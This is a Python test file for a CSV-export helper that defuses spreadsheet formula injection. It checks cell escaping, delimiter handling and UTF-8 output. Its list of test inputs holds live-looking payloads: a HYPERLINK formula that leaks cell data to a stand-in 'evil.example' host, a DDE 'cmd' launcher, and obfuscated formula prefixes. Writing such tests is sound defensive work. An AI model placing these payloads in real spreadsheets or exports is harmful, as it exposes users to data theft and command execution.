"""A table that somebody opens in a spreadsheet runs nothing, whatever anybody called anything."""

import csv
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from familyapp.core.csv_cells import BOM, as_csv, safe_cell

NASTY = (
    '=HYPERLINK("http://evil.example?"&A1,"Open")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\u22121",
    "\u3000＝1",
    '"=1+1',
)


def read(content: bytes, delimiter: str = ",") -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("text", NASTY)
def test_what_begins_like_a_formula_is_made_text(text):
    safe = safe_cell(text)
    assert "'" in safe
    assert not safe.lstrip("\t\r\n").startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(
    "text", ["Oakfield School", "Year 11 - maths", "1 = 1", "a@b.example", "", "‘Tom’", "1,000"]
)
def test_plain_words_stay_as_they_are(text):
    assert safe_cell(text) == text


def test_numbers_are_numbers_and_nothing_is_nothing():
    assert [safe_cell(each) for each in (12, -3, 0.5, None)] == ["12", "-3", "0.5", ""]


WORDS = st.text(st.sampled_from("=+-@\t\r\n;,'\" \u00a0\u200b＝－a1é"), max_size=12) | st.text()


@given(st.lists(WORDS, min_size=1, max_size=4), st.sampled_from([",", ";", "\t"]))
@example(['=HYPERLINK("x")'], ",")
@example(["fine;=1+1"], ";")
@example(['";=1+1'], ";")
def test_no_program_finds_a_formula_whatever_parts_the_cells_by(row, delimiter):
    for cells in read(as_csv([row]), delimiter):
        for cell in cells:
            assert not cell.lstrip(" \u00a0\u200b\ufeff").startswith(
                ("=", "+", "-", "@", "＝", "－")
            )


@given(st.lists(st.lists(WORDS, min_size=2, max_size=3), min_size=1, max_size=4))
def test_the_cells_come_back_as_they_went_in(rows):
    kept = [[each.encode(errors="replace").decode() for each in map(safe_cell, r)] for r in rows]
    assert read(as_csv(rows)) == kept


@given(WORDS)
def test_only_apostrophes_are_added(text):
    assert safe_cell(text).replace("'", "") == text.replace("'", "")


def test_excel_is_told_that_it_is_utf_8():
    content = as_csv([["Łódź"]])
    assert content.startswith(BOM.encode())
    assert content == b'\xef\xbb\xbf"\xc5\x81\xc3\xb3d\xc5\xba"\r\n'
